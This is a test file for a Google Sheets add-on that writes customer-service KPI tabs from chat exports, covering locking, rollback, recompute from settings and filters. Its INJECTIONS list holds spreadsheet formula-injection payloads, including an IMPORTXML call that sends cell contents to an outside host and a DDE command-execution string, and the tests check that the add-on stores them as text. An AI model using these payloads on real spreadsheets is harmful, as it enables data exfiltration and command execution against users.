import { describe, expect, it } from 'vitest';
import { noteWords } from '../../src/core/sheets/headerNotes';
import { TAB_NAMES, type Tab } from '../../src/core/sheets/tabs';
import { loadCode } from '../fakes/loadCode';
import { messages, tabsFor } from '../helpers/importTabs';

/** Formula-injection payloads as they arrive in exports (agent and customer names, message text). */
const INJECTIONS = [
  '=HYPERLINK("http://example.invalid","点我")',
  '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

/** What google.script.run hands the server: a JSON copy, made in the Apps Script realm. */
function send(addon: ReturnType<typeof loadCode>, request: object) {
  return addon.evaluate(`writeTabs(JSON.parse(${JSON.stringify(JSON.stringify(request))}))`);
}

const serviceCalls = (addon: ReturnType<typeof loadCode>) =>
  addon.log.calls.filter((c) => ['Range', 'Sheet', 'Spreadsheet'].includes(c.service)).length;

describe('writeTabs (google.script.run target)', () => {
  it("writes every tab, marked as the add-on's, with headers, formulas and frozen header rows", () => {
    const addon = loadCode();
    const names = ['服务指标', '销售指标', '售后指标', '咨询明细', '绩效', '设置'];
    // min_sample 0: no figure of these few consultations is flagged, so every score is the plain formula.
    const result = send(addon, { tabs: tabsFor(messages(3), { minSample: 0 }) }) as {
      written: string[];
      links: unknown[];
    };
    expect(result.written).toEqual(names);
    // A link per tab: the spreadsheet's URL with the tab's own gid.
    const gid = (name: string) => addon.spreadsheet.getSheetByName(name)?.getSheetId();
    expect(result.links).toEqual(
      names.map((name) => ({ name, url: expect.stringMatching(new RegExp(`/edit#gid=${gid(name)}$`)) })),
    );
    const sheet = addon.spreadsheet.getSheetByName('服务指标');
    expect(sheet?.dump()[0]?.slice(0, 3)).toEqual(['客服', '咨询量', '接待量']);
    expect(sheet?.getFrozenRows()).toBe(1);
    expect(sheet?.metadata.map((m) => m.getKey())).toEqual(['cs-kpi.owned']);
    const card = addon.spreadsheet.getSheetByName('绩效');
    expect(card?.dump()[0]?.slice(0, 4)).toEqual(['客服', '方案', '30秒应答率', '30秒应答率 得分']);
    expect(card?.dump()[1]?.[1]).toBe('售前·日常');
    expect(String(card?.dump()[1]?.[3])).toMatch(
      /^=IF\(C2="","",TIER_SCORE\(C2,'设置'!\$F\$2:\$H\$2,'设置'!\$I\$2:\$K\$2,"higher"\)\)$/,
    );
    // The chart of the key indicators: each scheme indicator's score per agent, beside the table.
    expect(card?.charts).toEqual([
      {
        type: 'COLUMN',
        ranges: ['A1:A3', 'D1:D3', 'F1:F3', 'H1:H3', 'J1:J3'],
        options: { title: '各指标得分 Scores per agent' },
        position: [1, 15],
        headers: 1,
      },
    ]);
    expect(addon.spreadsheet.getSheets().map((s) => s.peekName())).not.toContain('服务指标 ·新');
    expect(sheet?.conditionalRules).toContainEqual({
      formula: expect.stringMatching(/^=AND\([A-Z]+2<>"",[A-Z]+2>=INDIRECT\("'设置'!E2"\)\)$/),
      background: '#d9ead3',
      ranges: [expect.stringMatching(/^[A-Z]+2:[A-Z]+3$/)],
    });
  });

  it('wraps the headers and widens date-time columns past the 100 px a new column has (no ###)', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(3)) });
    const detail = addon.spreadsheet.getSheetByName('咨询明细');
    const header = detail?.dump()[0] ?? [];
    for (const name of ['首条顾客消息', '首次人工回复']) {
      const column = header.indexOf(name) + 1;
      // yyyy-mm-dd hh:mm:ss is 19 characters of about 7 px in Arial 10.
      expect(detail?.getColumnWidth(column), name).toBeGreaterThanOrEqual(19 * 7);
    }
    const service = addon.spreadsheet.getSheetByName('服务指标');
    expect(service?.getRange(1, 2).getWrap()).toBe(true);
    expect(service?.getRange(2, 2).getWrap()).toBe(false);
  });

  it('colors agents through INDIRECT, set only once 设置 has its name on the first import (issue 19, item 1)', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(3)) });
    const rules = ['服务指标', '销售指标', '售后指标'].flatMap(
      (name) => addon.spreadsheet.getSheetByName(name)?.conditionalRules ?? [],
    ) as { formula: string }[];
    expect(rules.length).toBeGreaterThan(0);
    for (const rule of rules) expect(rule.formula).toMatch(/INDIRECT\("'设置'!E\d+"\)\)$/);
    // Every rule was set after the last rename: no rule was built while a tab was named "… ·新".
    const calls = addon.log.calls.map((c) => `${c.service}.${c.method}`);
    expect(calls.indexOf('Sheet.setConditionalFormatRules')).toBeGreaterThan(
      calls.lastIndexOf('Sheet.setName'),
    );
  });

  it('makes as many service calls for 1,000 consultations as for 10', () => {
    const small = loadCode();
    send(small, { tabs: tabsFor(messages(10)) });
    const large = loadCode();
    send(large, { tabs: tabsFor(messages(1000)) });
    expect(serviceCalls(large)).toBe(serviceCalls(small));
    expect(large.log.count('Range', 'setValues')).toBe(6);
  });

  it('writes every formula-injection payload from an export as text', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(INJECTIONS.length, INJECTIONS)) });
    const sheet = addon.spreadsheet.getSheetByName('服务指标');
    const agents = (sheet?.dump() ?? []).slice(1, 1 + INJECTIONS.length).map((row) => row[0]);
    expect(new Set(agents)).toEqual(new Set(INJECTIONS));
    const rows = sheet?.getRange(2, 1, INJECTIONS.length, 1);
    expect(
      rows
        ?.getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
  });

  it('waits for the document lock and says so when another import holds it', () => {
    const addon = loadCode();
    addon.lock.heldByOther = true;
    expect(() => send(addon, { tabs: tabsFor(messages(2)) })).toThrow(
      'Another import is writing to this spreadsheet',
    );
    expect(addon.spreadsheet.getSheetByName('服务指标')).toBeNull();
  });

  it('never touches a tab of the same name it did not create', () => {
    const addon = loadCode({ spreadsheet: { tabs: ['服务指标'] } });
    addon.editCell('服务指标', 1, 1, '我的数据');
    expect(() => send(addon, { tabs: tabsFor(messages(2)) })).toThrow('was not made by the add-on');
    expect(addon.spreadsheet.getSheetByName('服务指标')?.dump()).toEqual([['我的数据']]);
  });

  it('asks before replacing a tab the user edited since the last import', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(2)) });
    addon.editCell('服务指标', 2, 2, 999);
    expect(() => send(addon, { tabs: tabsFor(messages(3)) })).toThrow('was edited since the last import');
    expect(addon.spreadsheet.getSheetByName('服务指标')?.dump()[1]?.[1]).toBe(999);
    send(addon, { tabs: tabsFor(messages(3)), replaceEdited: true });
    expect(addon.spreadsheet.getSheetByName('服务指标')?.dump()[1]?.[1]).toBe(2);
  });

  it('replaces unedited tabs of its own on the next import', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(2)) });
    send(addon, { tabs: tabsFor(messages(4)) });
    expect(addon.spreadsheet.getSheetByName('咨询明细')?.dump()).toHaveLength(5);
  });

  it('leaves the previous tabs as they were when a write fails half way', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(2)) });
    const before = addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()]);
    addon.log.failAt.set('Range.setValues', addon.log.count('Range', 'setValues') + 4);
    expect(() => send(addon, { tabs: tabsFor(messages(5)) })).toThrow('Service Spreadsheets failed');
    expect(addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()])).toEqual(before);
    expect(addon.lock.held).toBe(false);
  });
});

describe('large imports in blocks (beginTabs, appendTabRows, commitTabs, abortTabs)', () => {
  async function chunked(addon: ReturnType<typeof loadCode>, tabs: Tab[], maxCells: number) {
    const { rowBlocks, layoutOf } = await import('../../src/core/sheets/chunks');
    const call = (name: string, request: object) =>
      addon.evaluate(`${name}(JSON.parse(${JSON.stringify(JSON.stringify(request))}))`) as Record<
        string,
        unknown
      >;
    const layouts = tabs.map(layoutOf);
    const { token } = call('beginTabs', {
      names: layouts.map((l) => l.name),
      grids: layouts.map((l) => l.grid),
    }) as { token: string };
    for (const block of rowBlocks(tabs, maxCells)) call('appendTabRows', { token, ...block });
    return { token, call, result: call('commitTabs', { token, tabs: layouts }) };
  }

  it('gives the same tabs as one call, in blocks of rows', async () => {
    const tabs = tabsFor(messages(300));
    const once = loadCode();
    send(once, { tabs });
    const inBlocks = loadCode();
    const { result } = await chunked(inBlocks, tabs, 500);
    expect(result.written).toEqual(tabs.map((t) => t.name));
    const contents = (addon: ReturnType<typeof loadCode>) =>
      addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump(), s.metadata.map((m) => m.getValue())]);
    expect(contents(inBlocks)).toEqual(contents(once));
    expect(inBlocks.log.count('Range', 'setValues')).toBeGreaterThan(6);
    expect(inBlocks.documentProperties.store.size).toBe(0);
  });

  it('refuses a second import while one is in progress, and frees it when aborted', async () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(2)) });
    const before = addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()]);
    const tabs = tabsFor(messages(50));
    const { layoutOf } = await import('../../src/core/sheets/chunks');
    const request = { names: tabs.map((t) => t.name), grids: tabs.map((t) => layoutOf(t).grid) };
    const begin = addon.evaluate(`beginTabs(JSON.parse(${JSON.stringify(JSON.stringify(request))}))`) as {
      token: string;
    };
    expect(() => send(addon, { tabs })).toThrow('Another import is in progress');
    expect(addon.evaluate(`abortTabs({ token: ${JSON.stringify(begin.token)} })`)).toEqual({ aborted: true });
    expect(addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()])).toEqual(before);
    expect(() => send(addon, { tabs })).not.toThrow();
  });

  it('refuses blocks of an import that is no longer the current one', () => {
    const addon = loadCode();
    expect(() =>
      addon.evaluate(
        `appendTabRows({ token: 'nope', name: '绩效', startRow: 1, rows: [['x']], formats: [] })`,
      ),
    ).toThrow('This import expired or was replaced');
  });
});

describe('recomputeFromSettings (menu: 按设置重新计算)', () => {
  /** A second scheme for after-sales, on rows 6–7 of 设置, its pay on row 3, and 小王 moved onto it. */
  function addAfterSalesScheme(addon: ReturnType<typeof loadCode>) {
    const settings = addon.spreadsheet.getSheetByName('设置');
    settings?.getRange(6, 1, 2, 13).setValues([
      ['售后·日常', 'reply_rate', '回复率', 'higher', 0.95, 0.85, 0.9, 0.95, 6, 8, 10, 10, 10],
      ['售后·日常', 'fast_reply_rate', '30秒应答率', 'higher', 0.9, 0.7, 0.8, 0.9, 6, 8, 10, 5, 10],
    ]);
    settings?.getRange(3, 15, 1, 2).setValues([['售后·日常', 1500]]);
    const assignments = settings?.dump().map((row) => row[17]) ?? [];
    settings?.getRange(assignments.indexOf('小王') + 1, 19, 1, 1).setValues([['售后·日常']]);
  }

  it('rebuilds 绩效 and the target colors from the edited 设置, leaving 设置 as the team wrote it', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(4)) });
    addAfterSalesScheme(addon);
    const settingsBefore = addon.spreadsheet.getSheetByName('设置')?.dump();
    addon.global.applyRecompute();
    expect(addon.alerts.at(-1)?.prompt).toContain('2 agents, 2 schemes');
    const card = addon.spreadsheet.getSheetByName('绩效')?.dump() ?? [];
    const header = card[0] ?? [];
    expect(header).toContain('回复率 得分');
    const wang = card.find((row) => row[0] === '小王') ?? [];
    expect(wang[1]).toBe('售后·日常');
    expect(wang[header.indexOf('回复率')]).toBe(1);
    // Native formulas over 设置 (no custom function: 绩效 works in a copy or an .xlsx download too).
    expect(String(wang[header.indexOf('回复率 得分')])).toContain(">='设置'!$H$6,'设置'!$K$6,");
    expect(String(wang[header.indexOf('30秒应答率 得分')])).toContain(">='设置'!$H$7,'设置'!$K$7,");
    expect(String(wang[header.indexOf('绩效工资')])).toMatch(/^=IF\([A-Z]+\d+=0,"",'设置'!\$P\$3\*/);
    const mei = card.find((row) => row[0] === '小美') ?? [];
    expect(mei[header.indexOf('回复率 得分')]).toBe('');
    expect(String(mei[header.indexOf('绩效工资')])).toContain("'设置'!$P$2*");
    expect(card.flat().join(' ')).not.toMatch(/TIER_SCORE|WEIGHTED_SCORE|PERFORMANCE_PAY/);
    expect(addon.spreadsheet.getSheetByName('设置')?.dump()).toEqual(settingsBefore);
    const service = addon.spreadsheet.getSheetByName('服务指标');
    const serviceHeader = service?.dump()[0] ?? [];
    const wangRow = (service?.dump().findIndex((row) => row[0] === '小王') ?? 0) + 1;
    const column = String.fromCharCode(65 + serviceHeader.indexOf('回复率'));
    expect(service?.conditionalRules).toContainEqual({
      formula: `=AND(${column}${wangRow}<>"",${column}${wangRow}>=INDIRECT("'设置'!E6"))`,
      background: '#d9ead3',
      ranges: [`${column}${wangRow}`],
    });
  });

  it('heads 绩效 with the names the indicator tabs were written with: 3分钟应答率 under 180 s (issue 18 item 9)', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(4), { fastReplySeconds: 180 }) });
    const header = () => addon.spreadsheet.getSheetByName('绩效')?.dump()[0] ?? [];
    expect(header()).toContain('3分钟应答率 得分');
    addon.global.applyRecompute();
    expect(header()).toContain('3分钟应答率');
    expect(header()).toContain('3分钟应答率 得分');
    expect(header()).not.toContain('30秒应答率');
  });

  it('greys low-sample figures with their note, clears them on the next import, and keeps them on recompute', () => {
    const addon = loadCode();
    // Two consultations each: 回复率 of 小美 and 小王 rests on 2, below min_sample 5.
    send(addon, { tabs: tabsFor(messages(4)) });
    const service = () => addon.spreadsheet.getSheetByName('服务指标');
    const cellOf = (label: string, header: string) => {
      const dump = service()?.dump() ?? [];
      return [dump.findIndex((row) => row[0] === label), (dump[0] ?? []).indexOf(header)] as const;
    };
    const [mei, reply] = cellOf('小美', '回复率');
    const [team] = cellOf('团队', '回复率');
    const notes = () => service()?.getDataRange().getNotes() ?? [];
    const colors = () => service()?.getDataRange().getFontColors() ?? [];
    expect(notes()[mei]?.[reply]).toBe('样本不足：2 < 5');
    expect(colors()[mei]?.[reply]).toBe('#999999');
    // The team's 4 consultations are still too few; its own note says so.
    expect(notes()[team]?.[reply]).toBe('样本不足：4 < 5');
    expect(notes()[0]?.[reply]).toBe('');
    // 样本不足不计分 on the scheme: recompute reads the notes back and leaves the figure unscored.
    addon.spreadsheet
      .getSheetByName('设置')
      ?.getRange(2, 17, 1, 1)
      .setValues([[true]]);
    addon.global.applyRecompute();
    const card = addon.spreadsheet.getSheetByName('绩效');
    const header = card?.dump()[0] ?? [];
    const wangRow = card?.dump().find((row) => row[0] === '小王') ?? [];
    expect(String(wangRow[header.indexOf('30秒应答率 得分')])).toMatch(/^=IF\(OR\('设置'!\$Q\$2=TRUE,/);
    expect(card?.getDataRange().getNotes()[2]?.[header.indexOf('30秒应答率')]).toBe('样本不足：2 < 5');
    // The next import with enough cases (min_sample 2) leaves no note and no grey behind.
    send(addon, { tabs: tabsFor(messages(4), { minSample: 2 }), replaceEdited: true });
    expect(
      notes()
        .flat()
        .every((note) => note === ''),
    ).toBe(true);
    expect(
      colors()
        .flat()
        .every((color) => color === '#000000'),
    ).toBe(true);
  });

  it('writes each indicator header’s definition and the change columns’ notes; recompute reads past them (issue 20 items 4, 5)', () => {
    const addon = loadCode();
    // 小美 answered 1 of 2 fast in the previous period (50 %); every reply now comes after 20 s.
    const previous = { period: '2024-02', rows: [{ agent: '小美', figures: { fast_reply_rate: 0.5 } }] };
    const tabs = tabsFor(messages(4), {}, (report) => ({
      previous,
      noteWords: noteWords('zh-CN', report.settings),
    }));
    send(addon, { tabs });
    const service = addon.spreadsheet.getSheetByName('服务指标');
    const dump = service?.dump() ?? [];
    const header = (dump[0] ?? []).map(String);
    const notes = service?.getDataRange().getNotes() ?? [];
    const fast = header.indexOf('30秒应答率');
    expect(header[fast + 1]).toBe('30秒应答率 较上期(百分点)');
    expect(notes[0]?.[fast]).toMatch(/^30秒应答率\n首次人工回复在顾客首条消息后 T 秒内的咨询/);
    expect(notes[0]?.[fast]).toContain('应答时限(秒) 30');
    expect(notes[0]?.[fast + 1]).toMatch(/^上期：2024-02\n本期 − 上期/);
    const mei = dump.findIndex((row) => row[0] === '小美');
    const wang = dump.findIndex((row) => row[0] === '小王');
    expect(dump[mei]?.[fast + 1]).toBe(50);
    expect(notes[wang]?.[0]).toBe('上期没有此客服（2024-02）。');
    // The low-sample notes are still theirs (回复率 of 2 consultations), greyed.
    expect(notes[mei]?.[header.indexOf('回复率')]).toBe('样本不足：2 < 5');
    // 按设置重新计算 reads the indicators, not the change columns: 绩效 the same as without them (no
    // closed period in this spreadsheet, so it has no change columns of its own either).
    addon.global.applyRecompute();
    const card = addon.spreadsheet.getSheetByName('绩效')?.dump() ?? [];
    const plain = loadCode();
    send(plain, { tabs: tabsFor(messages(4)) });
    plain.global.applyRecompute();
    expect(card).toEqual(plain.spreadsheet.getSheetByName('绩效')?.dump());
    expect(card[0]).toContain('30秒应答率');
  });

  it('reads back agents and IDs that Sheets would type as numbers, booleans or dates (issue 19, item 3)', () => {
    const addon = loadCode();
    const agents = ['0012', 'TRUE', '3/4', '10%'];
    const tricky = messages(8, agents).map((m, i) => ({
      ...m,
      customer: `12345678901234567${10 + (i >> 1)}`,
    }));
    send(addon, { tabs: tabsFor(tricky) });
    const detail = addon.spreadsheet.getSheetByName('咨询明细')?.getDataRange().getValues() ?? [];
    expect(detail.slice(1, 5).map((row) => row.slice(0, 2))).toEqual([
      ['0012', '1234567890123456710'],
      ['TRUE', '1234567890123456711'],
      ['3/4', '1234567890123456712'],
      ['10%', '1234567890123456713'],
    ]);
    // Dates stay dates: the first customer message is a date-time in the spreadsheet's zone.
    expect(detail[1]?.[3]).toEqual(new Date(Date.UTC(2024, 2, 1, 2)));
    const service = addon.spreadsheet.getSheetByName('服务指标')?.getDataRange().getValues() ?? [];
    expect(
      service
        .slice(1, 5)
        .map((row) => row[0])
        .sort(),
    ).toEqual([...agents].sort());
    // 按设置重新计算 reads the names back and still finds them in 设置.
    const settings = addon.spreadsheet.getSheetByName('设置');
    settings
      ?.getRange(6, 1, 1, 13)
      .setValues([['售后·日常', 'reply_rate', '回复率', 'higher', 0.95, 0.85, 0.9, 0.95, 6, 8, 10, 10, 10]]);
    settings?.getRange(3, 15, 1, 2).setValues([['售后·日常', 1500]]);
    const assigned =
      settings
        ?.getDataRange()
        .getValues()
        .map((row) => row[17]) ?? [];
    expect(assigned.slice(1, 5).sort()).toEqual([...agents].sort());
    settings?.getRange(assigned.indexOf('0012') + 1, 19, 1, 1).setValues([['售后·日常']]);
    addon.global.applyRecompute();
    const card = addon.spreadsheet.getSheetByName('绩效')?.getDataRange().getValues() ?? [];
    expect(Object.fromEntries(card.slice(1).map((row) => row.slice(0, 2)))).toEqual({
      '0012': '售后·日常',
      TRUE: '售前·日常',
      '3/4': '售前·日常',
      '10%': '售前·日常',
    });
  });

  it('says which cell of 设置 is wrong and changes nothing', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(4)) });
    addon.editCell('设置', 3, 7, '七成');
    const before = addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()]);
    addon.global.applyRecompute();
    expect(addon.alerts.at(-1)?.prompt).toContain('设置 G3（门槛2）："七成" is not a number');
    expect(addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()])).toEqual(before);
  });

  it('asks before replacing an edited 绩效, and keeps it on No; without 设置 it says what to do', () => {
    const addon = loadCode({ alertAnswer: 'NO' });
    send(addon, { tabs: tabsFor(messages(4)) });
    addon.editCell('绩效', 2, 1, '手改');
    addon.global.applyRecompute();
    expect(addon.alerts.at(-1)?.buttons).toBe('YES_NO');
    expect(addon.spreadsheet.getSheetByName('绩效')?.dump()[1]?.[0]).toBe('手改');
    const empty = loadCode();
    empty.global.applyRecompute();
    expect(empty.alerts.at(-1)?.prompt).toContain('There is no 设置 tab yet');
    expect(empty.spreadsheet.getSheets().map((s) => s.peekName())).toEqual(['Sheet1']);
  });
});

describe('tabs updated in place (issue 19, items 5, 6 and 8)', () => {
  const snapshot = (addon: ReturnType<typeof loadCode>) =>
    addon.spreadsheet.getSheets().map((s) => ({
      name: s.peekName(),
      id: s.getSheetId(),
      cells: s.dump(),
      grid: s.gridSize(),
      rules: s.conditionalRules,
      marks: s.metadata.map((m) => m.getValue()),
      charts: s.charts.length,
    }));

  it('keeps each tab’s gid, position and the team’s formulas over it, and the user’s active tab', () => {
    const addon = loadCode({ spreadsheet: { tabs: ['团队看板'] } });
    send(addon, { tabs: tabsFor(messages(2)) });
    const ids = addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.getSheetId()]);
    const board = addon.spreadsheet.getSheetByName('团队看板');
    board?.getRange(1, 1, 1, 2).setValues([["='服务指标'!B2", '=COUNTA(咨询明细!A:A)']]);
    addon.spreadsheet.setActiveSheet(board as never);
    send(addon, { tabs: tabsFor(messages(4)) });
    expect(addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.getSheetId()])).toEqual(ids);
    expect(board?.getRange(1, 1, 1, 2).getFormulas()).toEqual([["='服务指标'!B2", '=COUNTA(咨询明细!A:A)']]);
    expect(addon.spreadsheet.getActiveSheet()?.peekName()).toBe('团队看板');
    expect(addon.spreadsheet.getSheetByName('咨询明细')?.dump()).toHaveLength(5);
    expect(addon.spreadsheet.getSheetByName('绩效')?.charts).toHaveLength(1);
  });

  it('writes each tab cut to its size, 设置 with room to type', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(300)) });
    const grid = (name: string) => addon.spreadsheet.getSheetByName(name)?.gridSize();
    expect(grid('咨询明细')).toEqual({ rows: 301, columns: 13 });
    expect(grid('服务指标')?.rows).toBe(5);
    expect(grid('设置')).toEqual({ rows: 1000, columns: 26 });
    // 绩效's grid reaches past its chart's anchor, whatever the number of indicators.
    const card = addon.spreadsheet.getSheetByName('绩效');
    const [row, column] = card?.charts[0]?.position ?? [0, 0];
    expect(card?.gridSize().columns).toBeGreaterThan(column);
    expect(card?.gridSize().rows).toBeGreaterThan(row);
  });

  it('refuses a protected tab before writing anything, saying what to do', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(2)) });
    addon.spreadsheet.getSheetByName('售后指标')?.protect().excludeUser();
    const before = snapshot(addon);
    expect(() => send(addon, { tabs: tabsFor(messages(3)) })).toThrow(
      'The tab "售后指标" is protected and you cannot edit it; nothing was changed',
    );
    expect(snapshot(addon)).toEqual(before);
  });

  it('says how many cells an import needs and refuses one past 10 million, changing nothing', () => {
    const addon = loadCode({ spreadsheet: { tabs: ['粘贴的聊天'] } });
    send(addon, { tabs: tabsFor(messages(2)) });
    // A pasted export of 383,000 rows × 26 columns: 9,958,000 cells.
    addon.spreadsheet.getSheetByName('粘贴的聊天')?.insertRowsAfter(1000, 382_000);
    const before = snapshot(addon);
    expect(() => send(addon, { tabs: tabsFor(messages(300)) })).toThrow(
      /It needs 10,\d{3},\d{3} cells while it runs .* and 9,\d{3},\d{3} after, of the 10,000,000/,
    );
    expect(snapshot(addon)).toEqual(before);
    addon.spreadsheet.getSheetByName('粘贴的聊天')?.deleteRows(2, 300_000);
    const result = send(addon, { tabs: tabsFor(messages(300)) }) as { cells: number };
    expect(result.cells).toBe(addon.spreadsheet.cellCount());
  });

  it('puts every tab back as it was when the commit fails half way', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(2)) });
    const before = snapshot(addon);
    // The third tab's copy into place fails: the first two already have their new content.
    addon.log.failAt.set('Range.copyTo', addon.log.count('Range', 'copyTo') + 3);
    expect(() => send(addon, { tabs: tabsFor(messages(5)) })).toThrow('Service Spreadsheets failed');
    expect(snapshot(addon)).toEqual(before);
    expect(addon.lock.held).toBe(false);
    send(addon, { tabs: tabsFor(messages(5)) });
    expect(addon.spreadsheet.getSheetByName('咨询明细')?.dump()).toHaveLength(6);
  });

  it('keeps a team’s filter on 服务指标 and 咨询明细 over the data’s rows, with more rows and with fewer', () => {
    const addon = loadCode();
    send(addon, { tabs: tabsFor(messages(6)) });
    const hideXiaoWang = { hiddenValues: ['小王'] };
    const filterOf = (name: string) => addon.spreadsheet.getSheetByName(name)?.getFilter() ?? null;
    addon.spreadsheet.getSheetByName('咨询明细')?.getRange('A1:M7').createFilter();
    filterOf('咨询明细')?.setColumnFilterCriteria(2, hideXiaoWang);
    // On 服务指标, the team filters a part of the columns (客服 to 接待量).
    addon.spreadsheet.getSheetByName('服务指标')?.getRange('A1:C5').createFilter();
    filterOf('服务指标')?.setColumnFilterCriteria(1, hideXiaoWang);
    for (const [count, detail, service] of [
      [40, 'A1:M41', 'A1:C5'],
      [3, 'A1:M4', 'A1:C5'],
    ] as const) {
      send(addon, { tabs: tabsFor(messages(count, ['小美', '小王', '阿强'].slice(0, count > 3 ? 3 : 2))) });
      const rows = addon.spreadsheet.getSheetByName('服务指标')?.gridSize().rows ?? 0;
      expect(filterOf('咨询明细')?.peekA1(), `${count} consultations`).toBe(detail);
      expect(filterOf('服务指标')?.peekA1(), `${count} consultations`).toBe(
        service.replace('5', String(rows)),
      );
      expect(filterOf('咨询明细')?.getColumnFilterCriteria(2)).toEqual(hideXiaoWang);
      expect(filterOf('服务指标')?.getColumnFilterCriteria(1)).toEqual(hideXiaoWang);
    }
  });

  it('puts a missing tab back in its place in the product’s order', () => {
    const addon = loadCode({ spreadsheet: { tabs: ['Sheet1'] } });
    send(addon, { tabs: tabsFor(messages(2)) });
    addon.spreadsheet.deleteSheet(addon.spreadsheet.getSheetByName('售后指标') as never);
    addon.spreadsheet.insertSheet('我的', 1);
    send(addon, { tabs: tabsFor(messages(2)) });
    expect(addon.spreadsheet.getSheets().map((s) => s.peekName())).toEqual([
      'Sheet1',
      '我的',
      ...Object.values(TAB_NAMES),
    ]);
  });

  it('reads a large pasted tab in blocks, every row once', () => {
    const addon = loadCode({ spreadsheet: { tabs: ['聊天'] } });
    const sheet = addon.spreadsheet.getSheetByName('聊天');
    sheet?.insertRowsAfter(1000, 29_000);
    const rows = Array.from({ length: 30_000 }, (_, i) => [`r${i}`, 'a', 'b', 'c', 'd', 'e', 'f', 'g']);
    sheet?.getRange(1, 1, rows.length, 8).setValues(rows);
    const read: string[][] = [];
    let next: number | null = 1;
    let calls = 0;
    while (next !== null) {
      const block = addon.evaluate(`readTab('聊天', ${next})`) as {
        rows: string[][];
        nextRow: number | null;
      };
      read.push(...block.rows);
      next = block.nextRow;
      calls++;
    }
    expect(calls).toBe(2);
    expect(read).toEqual(rows);
  });
});
